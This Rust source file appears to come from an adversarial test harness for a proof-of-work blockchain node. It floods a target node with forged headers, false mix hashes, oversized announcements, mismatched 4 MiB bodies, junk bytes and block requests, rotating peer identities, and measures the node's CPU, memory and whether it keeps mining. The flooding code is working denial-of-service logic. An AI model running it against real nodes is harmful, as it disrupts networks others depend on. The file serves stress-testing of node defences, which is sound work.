//! Floods: as much of one bad thing as a node takes, over as many connections and identities as it
//! allows, and what that costs it.

use crate::{
	error::AttackError,
	forge::{extrinsics_root, Draft, Miner},
	refuse::Stage,
	report::{figures, rounded, Report},
	victim::{Log, Usage, Victim},
	wire::{announcement, BlockRequest, Peer, PeerOptions, Served, WireError, HEADER_AND_BODY},
};
use isthmus_primitives::{
	digest::{Seal, POW_ENGINE_ID},
	Hash, Header,
};
use polkadot_sdk::sp_runtime::{DigestItem, OpaqueExtrinsic};
use prost::Message;
use std::{
	path::Path,
	sync::{
		atomic::{AtomicU64, Ordering},
		Arc,
	},
	time::{Duration, Instant},
};

/// Connections at a time.
const CONNECTIONS: usize = 4;
/// Messages that are sent on one connection before waiting whether the node closes it.
const MESSAGES_A_CONNECTION: u64 = 32;
/// How long a node may take to close a connection that it found bad.
const CLOSING_TIME: Duration = Duration::from_secs(2);
/// How long a node may take for its next block when the flood is over.
const NEXT_BLOCK: Duration = Duration::from_secs(30);
/// How much more memory a node may hold at its peak than before, in bytes.
const MEMORY_ALLOWED: u64 = 256 * 1024 * 1024;
/// The bytes of a bad body.
const BODY_BYTES: usize = 4 * 1024 * 1024;
/// The most bytes of an announcement that a node takes.
const MAX_ANNOUNCEMENT: usize = 1024 * 1024;

/// What to send.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
	/// Headers with a seal that is none: a node finds out with two hashes.
	Headers,
	/// Headers with a mix hash that was never mixed: they cost the sender H_d short hashes each, and
	/// the node a whole light one.
	Mixes,
	/// Blocks with a true seal, and a large body that is not theirs.
	Bodies,
	/// Bytes that are no announcement.
	Bytes,
	/// Announcements as large as the network layer takes.
	Oversized,
	/// Requests for all bodies of the node's chain, over and over.
	Requests,
}

impl Kind {
	fn names(self) -> (&'static str, &'static str) {
		match self {
			Self::Headers => ("flood-headers", "Flood of headers with broken seals"),
			Self::Mixes => ("flood-mixes", "Flood of headers with false mix hashes"),
			Self::Bodies => (
				"flood-bodies",
				"Flood of large bodies that are not their headers'",
			),
			Self::Bytes => ("flood-bytes", "Flood of bytes that are no announcements"),
			Self::Oversized => ("flood-oversized", "Flood of the largest announcements"),
			Self::Requests => ("flood-requests", "Flood of block requests"),
		}
	}
}

/// How much of it.
#[derive(Clone, Copy, Debug)]
pub struct Extent {
	/// Messages in all.
	pub messages: u64,
	/// No longer than this.
	pub limit: Duration,
}

/// Floods the node, and says what it cost it.
///
/// # Errors
///
/// What keeps it from being carried out.
pub async fn flood(
	victim: &Victim,
	pid: u32,
	log: Option<&Path>,
	kind: Kind,
	extent: Extent,
) -> Result<Report, AttackError> {
	let miner = Miner::new(victim.params())?;
	let stage = Stage::read(victim, &miner).await?;
	let before = Usage::of(pid)?;
	// So that the peak is the flood's own. Where the system does not let us, it is the node's whole life's.
	let _ = std::fs::write(format!("/proc/{pid}/clear_refs"), "5");
	let mut log = log.map(Log::at_end).transpose()?;
	let started = Instant::now();
	let count = Arc::new(Count::default());
	let connections = (0..CONNECTIONS).map(|_| connections(victim, &stage, kind, extent, &count));
	futures::future::try_join_all(connections).await?;
	let seconds = started.elapsed().as_secs_f64();
	let after = Usage::of(pid)?;

	let best = victim.best().await?;
	let mined = victim.best_above(best.number, NEXT_BLOCK).await.is_ok();
	let more_memory = after.peak_memory.saturating_sub(before.memory);
	let cpu = after.cpu_seconds - before.cpu_seconds;
	let (sent, identities) = (count.sent(), count.identities());
	let mut figures = figures([
		("messages", sent.into()),
		("identities", identities.into()),
		("refused_connections", count.refused().into()),
		("seconds", rounded(seconds)),
		("victim_cpu_seconds", rounded(cpu)),
		(
			"victim_cpu_micros_per_message",
			rounded(cpu * 1e6 / sent.max(1) as f64),
		),
		(
			"victim_memory_before_mib",
			rounded(mebibytes(before.memory)),
		),
		(
			"victim_memory_peak_mib",
			rounded(mebibytes(after.peak_memory)),
		),
	]);
	if let Some(log) = &mut log {
		let refused = log
			.lines()?
			.iter()
			.filter(|line| line.contains("is refused"))
			.count();
		figures.insert("log_lines_of_refusals".into(), refused.into());
	}
	let (attack, title) = kind.names();
	Ok(Report {
		attack,
		title,
		promise: "the paper is silent on floods; a node must go on",
		observed: format!(
			"{sent} messages over {identities} identities in {seconds:.1} s cost the node {cpu:.2} s of \
			 processor time and {:.0} MiB of memory at the peak; it {}",
			mebibytes(more_memory),
			if mined { "mined on" } else { "stopped mining" },
		),
		figures,
		held: mined && more_memory <= MEMORY_ALLOWED,
	})
}

#[derive(Default)]
struct Count {
	sent: AtomicU64,
	identities: AtomicU64,
	refused: AtomicU64,
}

impl Count {
	fn sent(&self) -> u64 {
		self.sent.load(Ordering::Relaxed)
	}

	fn identities(&self) -> u64 {
		self.identities.load(Ordering::Relaxed)
	}

	fn refused(&self) -> u64 {
		self.refused.load(Ordering::Relaxed)
	}

	/// The number of one more message, from 1.
	fn message(&self) -> u64 {
		self.sent.fetch_add(1, Ordering::Relaxed).saturating_add(1)
	}
}

/// One connection after the other, each under a new identity, until all is sent or time is up.
async fn connections(
	victim: &Victim,
	stage: &Stage<'_>,
	kind: Kind,
	extent: Extent,
	count: &Count,
) -> Result<(), AttackError> {
	let started = Instant::now();
	while count.sent() < extent.messages && started.elapsed() < extent.limit {
		let served = Served::default();
		for ancestor in stage.headers.iter().rev() {
			served.add(ancestor, &[]);
		}
		let connected = Peer::connect(PeerOptions {
			address: victim.address().clone(),
			handshake: victim.handshake(stage.best()),
			served: served.clone(),
		})
		.await;
		let peer = match connected {
			Ok(peer) => peer,
			Err(WireError::Refused(_) | WireError::Closed | WireError::TimedOut(_)) => {
				count.refused.fetch_add(1, Ordering::Relaxed);
				continue;
			}
			Err(error) => return Err(error.into()),
		};
		count.identities.fetch_add(1, Ordering::Relaxed);
		for _ in 0..MESSAGES_A_CONNECTION {
			if peer.is_closed() || count.sent() >= extent.messages {
				break;
			}
			let number = count.message();
			let sent = match kind {
				Kind::Requests => {
					let first = u32::try_from(number % 1000).unwrap_or(1);
					let request = BlockRequest::up_from(first, HEADER_AND_BODY, 128);
					peer.request(request.encode_to_vec()).await.map(|_| ())
				}
				_ => peer.announce(message(stage, kind, number, &served)?).await,
			};
			if sent.is_err() {
				break;
			}
		}
		if !matches!(kind, Kind::Requests | Kind::Bytes) {
			peer.closed_within(CLOSING_TIME).await;
		}
	}
	Ok(())
}

/// The announcement of this number: no two are equal, or the node would know them.
fn message(
	stage: &Stage<'_>,
	kind: Kind,
	number: u64,
	served: &Served,
) -> Result<Vec<u8>, AttackError> {
	let mut draft = stage.child();
	draft.state_root = Hash::from_low_u64_be(number);
	Ok(match kind {
		Kind::Bytes | Kind::Requests => vec![0xff; 512],
		Kind::Headers => announcement(&without_work(&draft, number), true, &[]),
		Kind::Oversized => {
			let header = without_work(&draft, number);
			announcement(&header, true, &vec![0; MAX_ANNOUNCEMENT - 1024])
		}
		Kind::Mixes => {
			let unsealed = draft.unsealed();
			let seal = crate::forge::seal_with_false_mix(&unsealed, draft.pre.difficulty)?;
			announcement(&crate::forge::with_seal(unsealed, seal), true, &[])
		}
		Kind::Bodies => {
			draft.extrinsics_root = extrinsics_root(&[]);
			let header = stage.seal(&draft)?;
			served.add(&header, &[OpaqueExtrinsic::from_blob(vec![5; BODY_BYTES])]);
			announcement(&header, true, &[])
		}
	})
}

/// The header with a seal that nobody searched for.
fn without_work(draft: &Draft, nonce: u64) -> Header {
	use codec::Encode;
	let mut header = draft.unsealed();
	let seal = Seal {
		mix_hash: Hash::repeat_byte(0xff),
		nonce,
	};
	header
		.digest
		.push(DigestItem::Seal(POW_ENGINE_ID, seal.encode()));
	header
}

fn mebibytes(bytes: u64) -> f64 {
	bytes as f64 / (1024.0 * 1024.0)
}
